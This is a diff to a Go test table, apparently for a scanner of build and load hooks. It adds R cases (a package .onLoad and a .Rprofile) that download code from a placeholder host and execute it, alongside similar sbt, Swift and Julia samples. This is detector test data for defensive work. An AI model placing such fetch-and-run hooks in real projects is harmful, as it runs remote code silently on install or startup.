@@ -205,6 +205,11 @@ var registry = []Rule{
 		{"build.sbt", "import scala.sys.process._\nval script = scala.io.Source.fromURL(\"https://x.invalid/a.sh\").mkString\nSeq(\"sh\", \"-c\", script).!", 3, false},
 		{"build.sbt", "import scala.sys.process._\nval v = Seq(\"git\", \"describe\").!!.trim", 0, true},
 		{"Package.swift", "import PackageDescription\nimport Foundation\nlet s = try! String(contentsOf: URL(string: \"https://x.invalid/a.sh\")!)\nlet p = Process()\np.executableURL = URL(fileURLWithPath: \"/bin/sh\")\np.arguments = [\"-c\", s]\ntry? p.run()", 6, false},
+		// R: a package's .onLoad runs at library(), a project's .Rprofile
+		// at every R start in its directory.
+		{"R/zzz.R", ".onLoad <- function(libname, pkgname) {\n  f <- tempfile(fileext = \".R\")\n  download.file(\"https://x.invalid/a.R\", f, quiet = TRUE)\n  source(f)\n}", 4, false},
+		{".Rprofile", "local({\n  f <- tempfile()\n  download.file(\"https://x.invalid/a.sh\", f)\n  system(paste(\"sh\", f), wait = FALSE)\n})", 4, false},
+		{"R/data.R", "f <- tempfile(fileext = \".csv\")\ndownload.file(\"https://x.invalid/d.csv\", f)\nd <- read.csv(f)\nsource(\"R/helpers.R\")", 0, true},
 		// A Julia package's deps/build.jl runs at Pkg.build.
 		{"deps/build.jl", "using Downloads\np = Downloads.download(\"https://x.invalid/a.sh\", \"a.sh\")\nrun(`sh $p`)", 3, false},
 		{"deps/build.jl", "run(`make -C src`)", 0, true},
